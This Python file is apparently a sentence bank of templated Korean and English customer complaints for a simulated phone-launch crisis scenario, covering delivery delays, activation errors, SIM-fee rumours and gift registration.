# -*- coding: utf-8 -*-
"""Sentence bank for the CrisisDesk "launch weekend" scenario.

Everything here was written for this project. Entries are either plain
strings (usable all day) or tuples (text, t0_hours, t1_hours) restricting the
entry to a window of the scenario clock (hours after 09:00 KST).

Placeholders are filled by generate.py: {time} {time_en} {hours} {mins} {n}
{store} {store_en} {color} {color_en} {cap} {model} {model_en} {order}
{fee} {name} {addr} {phone} {email} {courier} {courier_en} {hub} {url}
{imei} {ticket}
"""

DELIVERY = "배송 지연"
ACTIVATION = "개통 오류"
FEE = "요금·유심 루머"
REG = "사전예약·등록"
STOCK = "매장 재고"
PRAISE = "칭찬"
SPAM = "스팸·잡음"
CC = "고객센터"

# Phase helpers (hours after 09:00)
MORNING = (0.0, 1.65)      # before the courier hub failure
BURST = (1.65, 12.1)       # after the hub failure
NOON = (3.0, 12.1)
RUMOUR = (2.45, 12.1)
ARTICLE = (4.5, 12.1)
AFTERNOON = (5.0, 12.1)
EVENING = (8.0, 12.1)
NOTICE = (9.5, 12.1)       # official notice at ~18:30


def W(window, *texts):
    return [(t, window[0], window[1]) for t in texts]


# ---------------------------------------------------------------- openers
OPENERS_KO = [
    "저기요", "안녕하세요", "문의드려요", "질문 있어요", "아니", "하..", "진짜", "급합니다",
    "혹시", "ㅠㅠ", "궁금한 게 있는데요", "담당자님", "참다참다 멘션 남깁니다",
    "여기다 물어보는 거 맞나요?", "관리자님", "아 진짜", "저만 그런가요", "<긴급>", "[문의]",
    "와", "헐", "음..", "고객입니다 안녕하세요", "말 좀 해봐요", "하 진짜 왜이래",
    "실례합니다", "계정 운영하시는 분", "다른 게 아니라",
    "죄송한데", "하나만 여쭤볼게요", "여보세요~", "대체", "아놔", "제발", "으아",
    "솔직히 말할게요", "일단", "급해서 여기 남겨요", "공식계정님", "ㅋㅋㅋ", "와 씨",
    "결론부터 말하면", "상담원 연결이 안 돼서 여기로 왔어요",
    "전화 대기 40분 하다가 포기하고", "어휴", "헐랭", "ㅎㅎ", "음 그러니까",
]

CLOSERS_KO = [
    "답변 부탁드립니다", "빨리 좀 알려주세요", "확인 좀 해주세요 제발", "ㅡㅡ", "ㅠㅠ", "ㅠㅠㅠ",
    "하아", "진짜 너무하네요", "답답해 죽겠어요", "기다리고 있을게요", "오늘 안에 답 주세요",
    "다른 분들도 같은 상황이신가요?", "공지라도 올려주세요", "이게 맞나요?", "ㄹㅇ 실망",
    "실화냐", "부탁드려요🙏", "감사합니다", "미치겠다", "이러다 해지각", "휴..", "어이가 없네",
    "정신 나갈 것 같음", "ㅋㅋ 웃기지도 않네", "제발요", "답장 주실 때까지 멘션할 겁니다",
    "확인되면 알려주세요", "부탁 좀 드릴게요", "ㅜㅜ", "내 주말..", "어디다 하소연하냐",
    "답 좀요", "이럴 거면 왜 예약을 받았어요", "ㄹㅇ 화남", "진짜 기분 상하네요",
    "읽으시면 답 좀", "너무 불친절하시네요", "기다리다 지침", "하 진짜", "ㅠ",
    "알려주시면 감사하겠습니다", "어쩌라는 거죠", "멘션 확인 부탁드려요!", "에휴",
]

OPENERS_EN = [
    "hey", "hi", "Hello,", "um", "seriously", "ok so", "quick question:", "PSA:",
    "not gonna lie", "lol", "ugh", "so", "Hi team,", "excuse me but", "can someone explain",
    "question -", "hello??", "Dear Desk team,", "hey there", "fyi", "real talk:",
    "honest question:", "welp", "yo", "help!", "update:", "guys", "Morning!",
]

CLOSERS_EN = [
    "please advise", "any update?", "thanks", "this is ridiculous", "smh", "😤", "pls",
    "come on", "not impressed", "anyone else?", "help", "I'm losing my mind",
    "would appreciate a reply", "lol", "🙃", "thank you in advance", "ugh.",
    "just tell us the truth", "really disappointing", "?!", "waiting...", "SMH",
    "please respond", "what a day", "😭", "cheers",
]

EMOJI = [
    "😭", "😤", "🙏", "😡", "🤬", "😢", "😂", "🤣", "😅", "🥲", "🫠", "😮‍💨", "🤦‍♀️", "🤦🏻‍♂️",
    "🙏🏻", "🙏🏽", "👍🏼", "👎", "🔥", "📦", "📱", "⏰", "🚚", "💸", "😱", "🥺", "😑", "🙄",
    "👨‍👩‍👧", "🧑‍💻", "🤷‍♀️", "🤷🏾", "💀", "✨", "🥹", "😵‍💫", "👀", "💢", "🫥", "😴",
    "🏳️‍🌈", "🤞🏻", "👋🏿", "🙆‍♂️", "🙅🏻‍♀️", "❤️‍🔥", "💔", "🤯",
]

HASHTAGS = [
    "#노바9", "#Nova9", "#노바9런칭", "#NovaLaunch", "#노바9프로", "#Nova9Pro", "#런칭데이",
    "#노바9울트라", "#desk_official_일해라", "#출시일",
]
# topic hashtags, keyed by category name (see constants above)
TOPIC_HASHTAGS = {
    "배송 지연": ["#배송대란", "#택배언제와", "#오전도착은무슨", "#NovaDelivery"],
    "개통 오류": ["#개통대란", "#개통오류", "#eSIM"],
    "요금·유심 루머": ["#유심비", "#개통비", "#숨은비용"],
    "사전예약·등록": ["#사전예약", "#사은품", "#사후등록"],
    "매장 재고": ["#품절대란", "#오픈런"],
    "칭찬": ["#노바9언박싱", "#unboxing", "#감동"],
}

OTHER_ACCOUNTS = [
    "@hanbit_parcel", "@nova_mobile_kr", "@cs_help_kr", "@itnews_kimreporter", "@fanclub_nova9",
    "@gangnam_store_kr", "@speedlogi_kr", "@consumer_watch_kr", "@bungae_logis", "@mobile_insider",
    "@daily_tech_kr", "@global_nova", "@care_center_kr", "@gadget_review_kr",
]

# ---------------------------------------------------------------- delivery
DELIVERY_KO = [
    *W(MORNING,
       "오늘 오전 10시까지 도착한다고 문자 받았는데 아직 배송 출발 알림도 없어요",
       "사전예약 1차로 주문했는데 배송 조회 누르면 상품 준비중에서 안 바뀌네요",
       "{model} 오늘 받는 거 맞죠? 기사님 연락이 아직 없어서요",
       "10시 전에 온다던 폰 언제 와요 나가봐야 하는데",
       "택배 기사님 오늘 몇 시쯤 오시는지 알 수 있나요",
       "아침부터 현관문만 보고 있음 ㅋㅋ 제 {model} 어디쯤인가요",
       "오늘 도착 보장이라고 하셨잖아요 지금 {time}인데 슬슬 불안해요",
       "출근 전에 받을 수 있을 줄 알고 7시에 일어났는데요",
       "알람 맞춰놓고 일어났는데 아직 소식이 없네 ㅎㅎ 오전 중에 오는 거 맞죠?",
       "배송 출발 문자는 언제쯤 와요? 친구는 벌써 받았대서",
       "이웃집은 방금 받았던데 저는 왜 배송 준비중이죠",
       "10시 도착 맞나요? 11시에 외출해야 해서 확인차 여쭤봐요",
       "아직 9시대니까 기다려볼게요 근데 출발 알림은 줘야 하는 거 아닌가",
       "경비실에 맡겨달라고 메모 남겼는데 몇 시쯤 올지만 알려주세요",
       "오전 배송이면 보통 몇 시쯤 오나요? 처음 사전예약해봐서요",
    ),
    *W(BURST,
       "배송 조회가 안 돼요 계속 오류 페이지만 떠요",
       "오전 도착이라더니 벌써 {time}인데요?",
       "허브에서 멈춰있다는데 이게 무슨 말이에요",
       "간선하차 상태로 {hours}시간째 그대로예요",
       "기사님한테 전화했더니 물건이 아직 터미널에 안 들어왔대요",
       "오늘 못 받으면 내일 일요일인데 택배 안 하잖아요 어떡해요",
       "연차까지 쓰고 기다리는 중인데 ㅋㅋ 허무하네",
       "택배사에 물어보면 통신사에 물어보래고 통신사는 택배사에 물어보래고",
       "{hub} 전산이 나갔다던데 사실인가요",
       "10시 도착 약속은 그냥 마케팅 문구였나요",
       "오늘 중으로는 오는 건지만이라도 알려주세요",
       "배송 지연 문자 한 통이라도 보내주지 그랬어요",
       "친구는 9시에 받았는데 저는 왜 아직이죠? 같은 날 주문했는데",
       "조회하면 집화 처리에서 멈춤. 그 뒤로 아무 변화 없음",
       "송장번호 조회하면 '정보 없음' 뜨는 거 저만 그런가요",
       "{courier} 홈페이지 자체가 안 열려요",
       "배송 예정 시간이 오전에서 '미정'으로 바뀌었네요? 미정이 뭐예요 미정이",
       "아니 폰이 아직도 안 왔어요",
       "제 폰 지금 어디 있는지 아는 사람 아무도 없는 거죠?",
       "문 앞에서 기다린 지 {hours}시간째입니다",
       "점심 약속도 취소하고 기다리는데 연락이 없네요",
       "기사님 번호로 전화하니까 꺼져 있어요",
       "트래킹 화면이 새벽 3시 이후로 멈춰있어요",
       "'배송 출발' 떴다가 다시 '배송 준비'로 돌아갔어요 이게 가능한 거예요?",
       "오전에 온다는 말 믿고 기다린 제가 바보죠",
       "대체 몇 시에 와요? 시간이라도 알려달라고요",
       "물류센터 사고 났다는 거 진짜예요? 그럼 오늘 배송 다 밀리는 거예요?",
       "택배 조회 앱 세 개 돌려봤는데 다 다른 말 해요 ㅋㅋ",
       "{courier} 고객센터는 연결도 안 되고 여기도 답이 없고",
       "기다리는 것도 일이네요 벌써 {time}",
       "오늘 안에만 오면 그나마 참을게요 진짜로",
       "언제 오냐고요 제 {model}",
       "점심 먹고 오면 와 있겠지 했는데 여전히 없음",
       "창밖으로 택배차 지나갈 때마다 심장 뛰는 중 ㅋㅋㅋ",
       "동네 단톡방에서도 다들 못 받았다고 난리예요",
       "배송 완료라고 떴는데 문 앞에 아무것도 없어요",
       "경비실에도 없고 문 앞에도 없는데 배송 완료래요",
       "사진 인증도 없이 배송 완료 처리된 거 무슨 일이에요",
       "기다리다 지쳐서 매장 가서 살까 고민 중. 근데 이미 결제했잖아",
       "오전 배송 약속 지킨 사람 있긴 해요?",
       "'허브 작업 지연으로 배송이 늦어질 수 있습니다' 이 문자 이제야 보내면 어떡해요",
       "지연 안내 문자가 1시간 늦게 왔어요. 이미 다 알고 있었다고요",
       "조회하면 '간선 상차' 딱 그거 하나 떠있음",
       "택배차에 실리기는 한 건가요?",
       "기다리다 낮잠 잤는데 깨보니 여전히 배송 준비중 ㅋㅋ",
       "예약 순서대로 보낸다면서요 1차 예약자도 못 받았는데",
       "오늘 언박싱 방송하려고 했는데 방송 취소각이네요",
       "아들 생일 선물인데 오늘 못 받으면 큰일이에요",
       "부모님 댁으로 보냈는데 어머니가 계속 전화하세요 왜 안 오냐고",
       "같은 아파트 옆 동은 왔는데 우리 동만 안 왔어요",
       "조회가 되기라도 하면 기다리겠는데 아예 안 되니까 답답한 거예요",
       "배송기사님 연락처라도 알려주세요",
       "허브 복구는 언제 된대요?",
       "대란이네 대란. 오늘 받는 사람 있긴 함?",
       "오전 중 도착 -> 오후 도착 예정 -> 도착 예정일 미정. 하루 만에 세 번 바뀜",
       "배송 예정일이 갑자기 10/19로 바뀌었어요 통보도 없이",
       "택배 조회 새로고침만 백 번은 한 듯",
       "우리 집 택배 기사님이 오늘 물량 하나도 못 받으셨대요",
       "저녁에라도 오면 다행인 건가요? 기준을 모르겠네",
    ),
    *W(EVENING,
       "오후 내내 기다렸는데 결국 저녁이네요. 오늘 오긴 오나요",
       "'죄송합니다 확인 중입니다' 이 말 오늘만 네 번째 들어요",
       "확인 중이라는 답변 말고 진짜 정보를 주세요",
       "하루 종일 확인 중이시면 대체 언제 확인이 끝나요",
       "이 시간까지 안 오면 오늘은 포기해야 하는 거죠?",
       "밤 9시 넘어서도 배송하나요? 기다려야 하나 말아야 하나",
       "내일 일요일 배송 해준다는 게 확정이에요?",
       "저녁 먹고 왔는데 조회 상태 그대로임. 대단하다 진짜",
    ),
    "배송 언제 돼요?",
    "{model} {color} 주문했는데 조회가 안 되네요",
    "제 택배만 안 움직여요",
    "몇 시쯤 받을 수 있을지 대략이라도 부탁드려요",
    "송장 나온 지 하루 됐는데 집화도 안 됐대요",
    "퀵으로라도 보내주시면 안 돼요?",
    "아니 폰 언제 오냐고요ㅋㅋㅋ",
    "택배 상자만 기다리는 인생",
    "오늘 받을 수 있는지 YES or NO로만 답해주세요",
    "제 폰 실종신고 해야 하나요",
    "예상 도착 10:00 < 지금 {time}. 이게 말이 돼요?",
    "\"오늘 도착\"이라더니 \"도착 예정일 미정\"으로 바뀜",
    "기다린 시간 > 택배 이동 시간 ㅋㅋㅋ 웃프다",
]

DELIVERY_EN = [
    *W(MORNING,
       "is my {model_en} still arriving before 10am today? no shipping update yet",
       "got the 'arriving by 10' text last night but tracking hasn't moved",
       "what time do deliveries usually show up on launch day?",
       "woke up early for my {model_en} lol. any ETA?",
       "my neighbour already got theirs, mine still says preparing",
    ),
    *W(BURST,
       "My {model_en} was supposed to arrive by 10am. It's {time_en} now. Where is it?",
       "tracking page just says 'in transit' since last night",
       "tracking number doesn't work on the {courier_en} site at all",
       "Is the courier hub down? Nothing is moving",
       "took the day off to receive my phone lol. still nothing",
       "delivery promised before 10. it is now past {time_en}. great launch",
       "the driver says the parcel never left the hub",
       "status shows delivered but there's nothing at my door",
       "any ETA at all? been waiting forever",
       "Can you at least tell us if it's coming today?",
       "heard the {hub_en} had a system failure. is that why?",
       "'delivery date: TBD' - what does TBD even mean here",
       "3 different tracking apps, 3 different answers",
       "your courier's hotline has a 70 minute wait",
       "i've refreshed tracking like 200 times",
       "so where exactly is my phone right now? anyone?",
       "tracking went from 'out for delivery' back to 'at hub'. how",
       "You sent the delay SMS an hour after everyone already knew",
       "it's a birthday present and it's not here. great",
       "if it doesn't come today nothing ships on sunday right?",
       "no phone, no update, no answer",
       "just tell me the new delivery window please",
       "I stayed home all day for this parcel",
    "my Israeli coworker keeps saying 'סבלנות' (patience). still no parcel",
    "expected 10:00 < now {time_en}. math is not mathing",
       "my parcel has been 'in transit' for {hours} hours",
    ),
    *W(EVENING,
       "It's evening and still no phone. Are deliveries still running tonight?",
       "every reply is 'sorry, we are checking'. checking what exactly?",
       "is sunday delivery actually confirmed or not",
    ),
    "where is my phone",
    "no delivery, no info, nothing",
]

DELIVERY_EXTRA_KO = [
    "주문은 {n}일 전에 했어요", "조회 화면 캡처도 있어요", "기사님도 모른대요",
    "오늘 받으려고 약속까지 미뤘어요", "지금 시각 {time}", "{courier}도 연락이 안 돼요",
    "집에 계속 있을 수도 없는데", "문자라도 제대로 보내주세요", "이미 {hours}시간 기다렸어요",
    "송장번호는 있는데 아무 소용 없음", "같은 상황인 분들 엄청 많네요", "옆집도 못 받았대요",
    "제발 오늘 안에만..", "기사님 잘못은 아닌 거 알아요", "차라리 매장 픽업으로 바꿔주세요",
    "예정 시간이라도 다시 알려주세요", "조회 새로고침 무한반복 중",
]
DELIVERY_EXTRA_EN = [
    "ordered {n} days ago", "I have screenshots", "driver has no idea either",
    "it's {time_en} already", "cancelled plans for this", "neighbours are in the same boat",
    "not the driver's fault, I know", "just give us a time window",
]
DELIVERY_FOLLOW_KO = [
    "아까 문의했는데 아직도 소식이 없네요",
    ("두 시간 전에 멘션 남겼는데 답은 '확인 중입니다' 한 줄", 3.0, 12.1),
    "세 번째 멘션입니다. 배송 어떻게 됐어요",
    "또 죄송하다고만 하시네요",
    "아까 그 사람인데요 여전히 조회 안 됩니다",
    "재확인 부탁드려요 아직 못 받았어요",
    "오늘 하루종일 기다린 사람인데요, 아직도 소식 없어요",
    ("오전에 물어본 건 답도 없고 벌써 {time}", 3.0, 12.1),
    ("아까 답변 주신 '오후 중 도착'도 결국 안 지켜졌네요", 7.0, 12.1),
    "계속 확인 중이라고만 하시니까 더 화나요",
    "업데이트: 여전히 안 옴",
    "기다리라고 해서 기다렸어요. 근데 아직도예요",
    "혹시 제 건 확인해보셨어요? 답이 없어서 다시 남김",
]
DELIVERY_FOLLOW_EN = [
    "following up on my earlier tweet, still nothing",
    "update: still no phone",
    ("you said 'this afternoon'. it's {time_en}", 5.0, 12.1),
    "third time asking. where is it",
    "another 'we're checking' reply. wow",
]

# ---------------------------------------------------------------- activation
ACTIVATION_KO = [
    "개통 대기중 {hours}시간째예요",
    "셀프개통 하는데 마지막 단계에서 '처리 중 오류가 발생했습니다'만 계속 나와요",
    "eSIM QR 찍으면 '유효하지 않은 코드'라고 떠요",
    "유심 꽂았는데 '유심 없음'으로 나와요",
    "번호이동 신청했는데 기존 통신사 해지가 안 돼서 폰 두 대 다 먹통이에요",
    "전화는 되는데 데이터가 안 터져요. APN 설정 문제인가요",
    "개통 완료 문자는 왔는데 상단에 '서비스 없음'이 떠요",
    "기존 폰 회선은 끊겼는데 새 폰은 아직 안 살아났어요. 연락 두절 상태",
    "본인인증 단계에서 계속 튕겨요",
    ("매장에서 개통하는데 전산이 느려서 {hours}시간째 앉아있음", 1.0, 12.1),
    "eSIM 전환하다가 기존 유심까지 죽었어요 ㅠㅠ",
    "재부팅 다섯 번 했는데 여전히 긴급통화만 가능",
    "카톡 인증 문자를 못 받아서 아무것도 못 해요",
    "폰이 벽돌이 됐어요 전화도 문자도 안 돼요",
    "번호이동 '처리중'에서 안 넘어가요",
    "{hours}시간 전에 신청했는데 아직 '접수 완료' 상태",
    "새 폰에 USIM 넣었는데 인식을 못 해요",
    "eSIM 다운로드 95%에서 멈추고 실패 떠요",
    "셀프개통 페이지가 계속 처음 화면으로 튕겨요",
    "개통 신청 버튼 누르면 '잠시 후 다시 시도해주세요' 무한반복",
    "개통이 됐다는데 전화 걸면 '없는 번호'래요",
    "번호이동하고 나서 문자만 안 와요. 인증을 못 받음",
    "기기변경 했는데 이전 폰이랑 새 폰 둘 다 신호가 없어요",
    "eSIM 프로필 설치됨이라고 나오는데 통신사 이름이 안 떠요",
    "회사 업무폰이라 오늘 꼭 살려야 하는데 개통이 안 돼요",
    "QR코드 재발급 받았는데 그것도 실패",
    "폰 설정에서 '셀룰러 요금제 추가' 누르면 바로 오류",
    "유심 트레이 뺐다 꼈다 몇 번 했는지 모르겠어요",
    "개통 완료까지 최대 몇 시간 걸려요? 벌써 {hours}시간",
    "번호이동 승인 문자는 왔는데 그 뒤로 감감무소식",
    ("전산 장애 있는 거 맞죠? 매장 직원분도 모르겠다고 하세요", 1.75, 12.1),
    "셀프개통 중에 '기존 가입 정보 불일치' 에러 떠요. 정보는 다 맞게 넣었는데",
    ("유심 인식 오류 떠서 매장 갔더니 매장 전산도 다운이래요", 1.75, 12.1),
    "새 폰 받아놓고 개통을 못 해서 그냥 예쁜 액자입니다",
    "데이터는 되는데 전화가 안 돼요. 반대 경우는 들어봤어도 이건 뭐지",
    "통화 누르면 바로 끊겨요. 개통 덜 된 건가",
    "QR 스캔하고 '활성화 중...' 에서 30분째",
    "개통 신청 후 {mins}분째 대기 화면",
    "eSIM 활성화 실패 코드 E-{n}0{n} 이거 뭐예요",
    "번호이동 중에 기존 통신사에서 '이미 처리된 요청'이라고 하고 여기선 '처리 안 됨'이래요",
    "개통이 반쯤 된 상태 같아요. 와이파이 연결해야만 카톡 됨",
    "해외 로밍 켜져 있는 것처럼 나와요 국내에 있는데",
    "셀프개통 3번 실패하면 매장 가야 하나요? 근처 매장은 대기 2시간",
    "오후에 개통 시작하면 오늘 안에 끝나긴 해요?",
    "이전 폰에서 eSIM 이동하기 했더니 둘 다 잃었어요",
    "유심 바꾸라고 해서 바꿨는데도 똑같아요",
    "개통 문자 인증번호가 안 와서 진행이 안 돼요",
    "PASS 인증이 안 돼서 개통을 못 해요. 폰이 안 되니까 인증을 못 받는 루프",
    "매장에선 A&S 센터로 가보라는데 거기 대기가 3시간이래요. 3시간 > 제 인내심",
    "'개통 완료'랑 '서비스 없음'이 동시에 떠있는 화면 보신 분?",
]
ACTIVATION_EN = [
    "Activation has been 'pending' for {hours} hours",
    "eSIM QR code fails every time, says the code is invalid",
    "new phone says No SIM even though the USIM is in",
    "number porting stuck. my old carrier released it hours ago",
    "my phone is basically a brick right now. no calls, no data",
    "self-activation keeps failing at the identity check step",
    "eSIM download stops at 95% and then error",
    "data works, calls don't. is activation half done?",
    "old phone lost signal, new phone has no signal. so I have zero phones",
    "'Emergency calls only' for 3 hours now",
    "can't get verification SMS so I can't verify anything lol",
    "the activation page keeps bouncing me back to step 1",
    ("store staff said your activation system is down. is it?", 1.75, 12.1),
    "transferred my eSIM from the old phone and now neither works",
    "got the 'activation complete' SMS but no service",
    "error E-{n}0{n} during eSIM setup. what does it mean?",
    "swapped the SIM twice, still 'SIM not recognised'",
    "porting says 'in progress' since {time_en}",
    "it says my number doesn't exist when people call me",
    "need this phone for work on monday and it won't activate",
]
ACTIVATION_EXTRA_KO = [
    "재부팅 해봤어요", "유심도 다시 꽂아봤어요", "와이파이는 잘 돼요", "매장 대기도 너무 길어요",
    "업무 연락 와야 하는데 미치겠어요", "에러 화면 캡처해놨어요", "iOS에서 넘어온 거라 더 헷갈려요",
    "기존 폰은 벌써 공기계 됨", "이거 언제 복구돼요?", "안내 문자라도 주세요",
    "지금 연락 수단이 와이파이 카톡뿐", "다른 분들도 개통 막혔다네요",
]
ACTIVATION_EXTRA_EN = [
    "restarted twice", "wifi works fine", "work calls are piling up",
    "I have screenshots of the error", "store queue is 2 hours",
]
ACTIVATION_FOLLOW_KO = [
    "아까 개통 문의한 사람입니다. 아직도 대기중",
    "아직도 서비스 없음이에요",
    "알려주신 대로 재부팅했는데 그대로예요",
    ("확인 중이라고 하신 지 {hours}시간 지났어요", 3.0, 12.1),
    "또 실패했어요. 이번이 네 번째",
    "개통 처리 어떻게 됐어요? 답이 없어서 다시 남깁니다",
]
ACTIVATION_FOLLOW_EN = [
    "pending. again. following up",
    "tried what you suggested, same error",
    "4th attempt failed. now what",
]

# ---------------------------------------------------------------- fee rumours
FEE_KO = [
    "개통비 따로 받는다는 게 사실이에요?",
    "유심비 {fee} 추가로 낸다는 얘기 도는데 진짜예요?",
    "친구가 그러는데 오늘 개통하면 유심비 두 번 청구된대요",
    "개통 수수료 새로 생긴다던데 공지 좀 해주세요",
    "eSIM도 돈 받나요? 2,750원이라는 말도 있고 27,500원이라는 말도 있고",
    "출고가 말고 추가로 뭐 더 내야 하는 거 있나요",
    "커뮤니티에서 숨은 비용 얘기로 난리인데 해명 좀",
    "유심 무료라고 광고한 거 캡처 있습니다. 이제 와서 돈 받으면 안 되죠",
    "부가서비스 3개 의무 가입이라는 말 진짜예요?",
    "₩27,500 이 도대체 뭐에 대한 돈이죠",
    "매장 직원이 유심값은 별도라네요? 온라인이랑 말이 다르잖아요",
    "그 2만7천5백원 얘기 진짜임?",
    "숨겨진 비용 있는 거 맞죠?",
    "추가 결제된다는 소문 ㄹㅇ?",
    "첫 달 청구서에 이상한 항목 붙는다는 후기 봤어요",
    "사전예약자는 유심비 면제라고 했던 것 같은데 바뀌었나요",
    "오늘부터 개통비 부과된다는 카톡이 돌아요. 공식 입장 있나요",
    "가입비 폐지된 거 아니었어요? 왜 다시 받는다는 얘기가 나오죠",
    "유심값만 {fee}? 그 돈이면 폰 케이스를 사겠다 ㅋㅋ 진짜예요?",
    "루머면 루머라고 빨리 공지해주세요. 다들 불안해해요",
    "제 주변에 벌써 결제 취소한다는 사람도 있어요. 그 추가 요금 때문에",
    "eSIM 발급 수수료랑 USIM 비용이 둘 다 나간다는 게 맞나요",
    "온라인 개통하면 수수료 없고 매장 개통하면 있다는 말도 있던데",
    "대리점마다 받는 금액이 다르다는데 정가가 얼마예요",
    "할부원금에 유심비가 녹아있다는 글 봤는데 설명 부탁드려요",
    "결제 화면에 없던 금액이 청구서에 나온다는 얘기 진짜예요?",
    "기사 하나 뜨니까 다들 난리네요. 추가 요금 없다고 해주세요 제발",
    "27,500원 받으면 그냥 공홈에서 자급제로 살게요",
    "개통비 = 유심비 = 같은 거예요? 다른 거예요?",
    "소문만 무성하고 공식 발표는 없네요",
    "유심 재사용하면 돈 안 내도 되는 건가요?",
    "번호이동하면 뭔가 수수료가 붙는다던데 얼마예요",
    "요금제 바꾸면 위약금 생긴다는 말도 있던데 이번 모델도요?",
    "'첫 달 부가서비스 유지' 조건이 숨어있다는 게 사실인가요",
    "무슨 돈을 이렇게 여기저기서 받아요? 사실이면 진짜 실망",
    "가격표에는 없었는데 계산할 때 뭐가 붙었어요. 이게 그 유심비예요?",
    *W(ARTICLE,
       "방금 기사 봤는데 유심비 인상 맞아요?",
       "뉴스에 나온 그거 해명 안 하나요",
       "기사 링크 돌고 있는데 사실관계 확인 부탁드립니다 {news}",
       "기사 제목이 '런칭 첫날 숨은 개통비 논란'이던데 어떻게 된 거예요",
       "언론에서까지 다루는데 아직도 입장이 없어요?",
       "그 기사 오보예요 아니에요? 예 아니오로만",
       "기자분은 27,500원이라던데 공홈엔 아무 말 없네요",
       "뉴스 보고 왔습니다. 추가 요금 진짜 있어요?",
    ),
]
FEE_EN = [
    "is there really a 27,500 won SIM card fee now??",
    "people are saying you'll charge an activation fee on launch day. true?",
    "Is the eSIM free or not? Getting mixed answers",
    "the store told me the USIM is extra, your website says free. which is it",
    "hidden fees on the first bill? heard that from 3 people today",
    "so what's this {fee} everyone's talking about",
    "can you confirm there's NO extra activation charge? yes or no",
    "friend says you pay the SIM fee twice if you switch carriers. real?",
    "is the activation fee waived for pre-orders or not",
    "rumours everywhere, zero official info. please post a notice",
    "different stores are quoting different SIM prices lol",
    "was the SIM fee baked into the installment price?",
    "I'll cancel if there's a surprise charge, just saying",
    "SIM fee rumours > actual information right now",
    "\"free USIM\" on the pre-order page vs \"27,500 won\" at the store. pick one",
    *W(ARTICLE,
       "there's a news article about surprise activation fees. comment? {news}",
       "just read the article. is the 27,500 won fee real?",
       "the press is on it now. still no statement? {url}",
    ),
]
FEE_EXTRA_KO = [
    "공지 하나면 끝날 일인데", "단톡방마다 이 얘기예요", "결제 전이라 빨리 알아야 해요",
    "사실이면 취소할 거예요", "매장마다 말이 달라요", "공식 답변 캡처해두겠습니다",
    "누구 말이 맞는 거예요", "엄마가 계속 물어보셔서요",
]
FEE_EXTRA_EN = [
    "just want a straight answer", "the group chats are going wild", "will cancel if true",
]
FEE_FOLLOW_KO = [
    "아까 질문한 유심비 건 답변 아직이에요",
    "공지 언제 올라와요? 아직도 소문만 돌아요",
    "그래서 받는 거예요 안 받는 거예요",
]
FEE_FOLLOW_EN = [
    "no answer yet about the SIM fee?",
]
# Rumour originals that get retweeted ("RT @x: ...")
FEE_RT_SOURCES = [
    "속보) 오늘 개통분부터 유심비 27,500원 별도 청구된다고 함",
    "대리점 지인 피셜: 런칭 주간 개통비 부활. 다들 조심",
    "노바9 사전예약자들 첫 달 청구서 꼭 확인하세요. 이상한 항목 붙는다는 제보 많음",
    "eSIM도 무료 아니래요. 발급비 따로 나감",
    "SIM card fee is 27,500 won now?? nobody told us",
    "온라인 개통 무료, 매장 개통 유료라는 말 도는데 확인된 거 아님",
    "오늘 개통하는 사람들 유심비 두 번 나간대 ㄷㄷ",
    "개통비 논란 기사 떴네요 {news}",
    "heads up: activation fee rumoured for launch day orders",
    "유심비 인상 공지 없이 적용 중이라는 썰",
]

# ---------------------------------------------------------------- registration
REG_KO = [
    "사은품 등록은 어디서 해요? 사전예약은 했어요",
    "사후등록 기간이 언제까지예요?",
    "헷갈려서 그러는데 사전예약이랑 사후등록이 다른 건가요?",
    "사은품 신청 페이지가 안 열려요",
    "쿠폰 코드가 문자로 온다고 했는데 아직 못 받았어요",
    "개통하고 나서 등록하라는데 개통을 못 했는데요. 기한 넘기면 어떡해요",
    "무선이어폰 사전예약 혜택은 개통 후 며칠 안에 신청해야 돼요?",
    "등록하려면 IMEI 입력하라는데 그게 어디 있어요",
    "케이스 쿠폰(사전예약자 전용)은 어디서 받아요",
    "사후등록 링크 눌렀더니 '이벤트 대상이 아닙니다' 떠요",
    "예약번호로 조회하니까 대상자가 아니래요. 분명히 예약했는데",
    "더블 스토리지 혜택은 자동 적용인가요 따로 신청인가요",
    "매장에서 산 사람도 사후등록 가능한가요?",
    "사은품 응모 마감이 10월 31일이라던데 맞나요",
    "혜택 신청 버튼이 회색으로 비활성화돼 있어요",
    "사전예약 안 했으면 사은품 못 받는 거죠? 사후등록이란 게 따로 있다던데",
    "사후등록하면 사전예약이랑 똑같은 혜택이에요?",
    "등록 페이지에서 개통일자 입력이 안 돼요. 달력이 안 뜸",
    "사은품 택1인데 선택 화면이 안 나와요",
    "쿠폰함에 아무것도 없어요. 사전예약 쿠폰 언제 들어와요?",
    "예약 확인 메일에 있던 링크가 만료됐대요",
    "멤버십 앱에서 등록하는 거예요 홈페이지에서 하는 거예요?",
    "가족 명의로 예약했는데 사은품 신청은 제가 해도 되나요?",
    "사은품 신청 완료 문자가 안 와서 된 건지 모르겠어요",
    "사전예약 사은품 배송은 언제 시작해요? 폰은 받았는데",
    "예약할 때 받은 코드 입력하면 '이미 사용된 코드'래요",
    "개통 후 14일 이내 등록 맞죠? 오늘 개통했으면 언제까지예요",
    "사후등록 기간 중에 기기 교체하면 혜택 날아가나요",
    "이벤트 페이지 FAQ랑 공지 내용이 달라요",
    "웨어러블 할인 쿠폰은 사전예약자만이에요?",
    "케이스 쿠폰 받았는데 적용 가능한 상품이 없어요 ㅋㅋ",
    "등록 화면에서 자꾸 로그인 풀려요. 사은품 신청 세 번째 시도 중",
    "혜택 등록 안내 문자 같은 거 오나요? 아무것도 못 받았어요",
    "특전 정리된 페이지 좀 알려주세요. 사전예약 혜택 안내가 너무 흩어져 있어요",
    "사은품이 두 개라고 들었는데 하나만 신청 가능하네요",
    "사전예약 취소하고 매장에서 다시 사면 혜택 유지돼요?",
    "예약번호 분실했는데 사은품 신청 어떻게 해요",
    "사후등록 링크 누가 좀 알려주세요 검색해도 안 나옴",
    "사은품 신청 기간이 벌써 끝났다고 뜨는데요? 오늘 출시일인데",
    "이벤트 응모했는데 '심사중'이래요. 사은품에 심사가 왜 필요해요",
]
REG_EN = [
    "pre-registered last week, where do I claim the launch gift?",
    "what's the post-registration deadline?",
    "is pre-registration the same as pre-order? confused",
    "the coupon code for the free case never came",
    "the benefit claim page says I'm not eligible even though I pre-ordered",
    "where do I enter the IMEI for the gift registration?",
    "does post-registration get the same perks as pre-registration?",
    "the gift redemption button is greyed out",
    "bought in store today, can I still register for the launch benefits?",
    "my reservation code says 'already used'. I never used it",
    "is the double storage upgrade automatic or do I need to apply?",
    "how many days after activation do I have to register for the earbuds?",
    "the registration link in the confirmation email is expired",
